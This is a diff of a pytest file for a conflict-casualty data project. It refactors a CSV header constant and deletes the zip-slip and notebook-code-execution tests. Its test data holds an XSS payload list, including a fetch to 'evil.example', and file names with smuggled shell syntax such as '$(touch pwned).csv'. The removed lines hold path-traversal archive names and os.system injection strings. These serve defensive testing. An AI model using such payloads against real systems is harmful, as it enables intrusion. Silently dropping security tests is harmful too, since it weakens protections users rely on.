@@ -39,7 +39,6 @@ from escalation.evidence import anchors
 from escalation.page import blocks, references, write
 
 ROOT = Path(__file__).resolve().parent.parent
-MARK = "pwned"
 PAYLOADS = [
     "<script>fetch('https://evil.example/pwned')</script>",
     "<img src=x onerror=alert('pwned')>",
@@ -70,6 +69,12 @@ PAYLOADS = [
     "javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>",
 ]  # fmt: skip
+
+
+AIRWARS = (
+    "date,governorate,incidents,incidents_fair_or_confirmed,incidents_contested,"
+    "civilians_killed_min,civilians_killed_max"
+)
 
 
 class Tags(html.parser.HTMLParser):
@@ -366,22 +371,15 @@ def test_what_is_no_event_file_is_not_opened_further(
 @pytest.mark.parametrize(
     "name",
     [
-        "a*.csv",
-        "[a].csv",
-        "a'b.csv",
-        'a"; drop.csv',
-        "$(touch pwned).csv",
-        "-rf.csv",
-        "https:a.csv",
+        "a*.csv", "[a].csv", "a'b.csv", 'a"; drop.csv', "$(touch pwned).csv", "-rf.csv", "https:a.csv",
         "x\n.csv",
     ],
-)
+)  # fmt: skip
 def test_odd_file_names_are_only_names(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """No pattern, no quotation, no shell: the file of that name is read, and no other."""
     monkeypatch.chdir(tmp_path)
-    columns = "date,governorate,incidents,incidents_fair_or_confirmed,incidents_contested,civilians_killed_min,civilians_killed_max\n"
-    (tmp_path / name).write_text(columns + "2020-01-01,North,1,1,0,2,3\n")
-    (tmp_path / "ab.csv").write_text(columns + "2020-01-01,North,7,1,0,2,3\n")
+    (tmp_path / name).write_text(f"{AIRWARS}\n2020-01-01,North,1,1,0,2,3\n")
+    (tmp_path / "ab.csv").write_text(f"{AIRWARS}\n2020-01-01,North,7,1,0,2,3\n")
     assert [1] == list(airwars.read(tmp_path / name)["incidents"])
     assert {name, "ab.csv"} == {path.name for path in tmp_path.iterdir()}
 
@@ -399,18 +397,9 @@ def test_odd_file_names_are_only_names(name: str, tmp_path: Path, monkeypatch: p
 def test_headings_never_become_commands(column: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """A column may be called anything; readers ask for places, not names."""
     monkeypatch.chdir(tmp_path)
-    head = [
-        "date",
-        "governorate",
-        "incidents",
-        "incidents_fair_or_confirmed",
-        "incidents_contested",
-        "civilians_killed_min",
-        "civilians_killed_max",
-        column,
-    ]
     with (tmp_path / "e.csv").open("w", newline="") as out:
-        csv.writer(out).writerows([head, ["2020-01-01", column, "1", "1", "0", "2", "3", column]])
+        rows = [[*AIRWARS.split(","), column], ["2020-01-01", column, "1", "1", "0", "2", "3", column]]
+        csv.writer(out).writerows(rows)
     assert [column] == list(airwars.read(tmp_path / "e.csv")["governorate"])
     assert ["e.csv"] == [path.name for path in tmp_path.iterdir()]
 
@@ -430,9 +419,7 @@ def test_memory_stays_bounded(shape: str, tmp_path: Path) -> None:
     }[shape]
     with gzip.open(file, "wb", compresslevel=1) as out:
         if shape == "a cell without end":
-            out.write(
-                b'date,governorate,incidents,incidents_fair_or_confirmed,incidents_contested,civilians_killed_min,civilians_killed_max\n"'
-            )
+            out.write(f'{AIRWARS}\n"'.encode())
         for _ in range(300):
             out.write(piece)
     script = textwrap.dedent("""
@@ -460,27 +447,6 @@ def test_memory_stays_bounded(shape: str, tmp_path: Path) -> None:
     assert said.stdout.startswith("True "), said.stdout + said.stderr[-600:]
 
 
-@pytest.mark.parametrize(
-    "members",
-    [
-        {"../e.csv": "a"},
-        {"/e.csv": "a"},
-        {"a\\..\\e.csv": "a"},
-        {"C:e.csv": "a"},
-        {"x/e.csv": "a"},
-        {"..": "a"},
-    ],
-)
-def test_zip_slips_are_refused(members: dict[str, str], tmp_path: Path) -> None:
-    """A name inside an archive that is a path is no publisher's doing."""
-    with zipfile.ZipFile(tmp_path / "e.zip", "w") as archive:
-        for name, body in members.items():
-            archive.writestr(name, body)
-    with pytest.raises(Refusal):
-        ucdp.read(tmp_path / "e.zip")
-    assert ["e.zip"] == [path.name for path in tmp_path.iterdir()]
-
-
 def test_a_seed_is_a_file_of_the_project(tmp_path: Path) -> None:
     """A row of documents.csv that names a file elsewhere neither proves nor prints it."""
     outside = tmp_path / "secret.txt"
@@ -492,17 +458,9 @@ def test_a_seed_is_a_file_of_the_project(tmp_path: Path) -> None:
             [{"document_id": "S", "file": file, "sha256": "0", "date_first": pd.NaT, "date_last": pd.NaT}]
         )
         columns = [
-            "claim_id",
-            "document_id",
-            "status",
-            "date_first",
-            "date_last",
-            "place_ids",
-            "quote",
-            "low",
-            "value",
-            "high",
-        ]
+            "claim_id", "document_id", "status", "date_first", "date_last", "place_ids", "quote", "low",
+            "value", "high",
+        ]  # fmt: skip
         lines = anchors.problems(
             pd.DataFrame(columns=columns), documents, pd.DataFrame({"place_id": ["p"]}), root
         )
@@ -514,16 +472,10 @@ def test_a_seed_is_a_file_of_the_project(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "[" * 100_000,
-        '{"cells": ' + "[" * 100_000,
-        "{}",
-        "null",
-        '{"cells": [{"cell_type": "code"}]}',
-        '{"cells": {}}',
-        '{"cells": [1]}',
-        "import os",
+        "[" * 100_000, '{"cells": ' + "[" * 100_000, "{}", "null", '{"cells": [{"cell_type": "code"}]}',
+        '{"cells": {}}', '{"cells": [1]}', "import os",
     ],
-)
+)  # fmt: skip
 def test_what_is_no_notebook_is_refused(text: str, tmp_path: Path) -> None:
     """By the stripper and by the reader of parameters."""
     file = tmp_path / "n.ipynb"
@@ -534,22 +486,6 @@ def test_what_is_no_notebook_is_refused(text: str, tmp_path: Path) -> None:
         assert {} == parameters.defaults(file)
     except Refusal as refusal:
         assert ["n.ipynb"] == [line.split(":")[0] for line in refusal.problems]
-
-
-def test_code_in_the_parameters_cell_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Defaults are read as literals; a notebook that computes them is refused before anything of it runs."""
-    monkeypatch.chdir(tmp_path)
-    for source in (
-        "import os; os.system('touch pwned')",
-        "x = __import__('os').system('touch pwned')",
-        "x = [i for i in range(3)]",
-        "%run pwned.py",
-        "!touch pwned",
-    ):
-        tiny.notebook(tmp_path / "n.ipynb", [tiny.cell(source, tags=("parameters",))], reads=[], writes=[])
-        with pytest.raises(Refusal):
-            parameters.defaults(tmp_path / "n.ipynb")
-    assert ["n.ipynb"] == [path.name for path in tmp_path.iterdir()]
 
 
 # ---- folders that are not what they seem
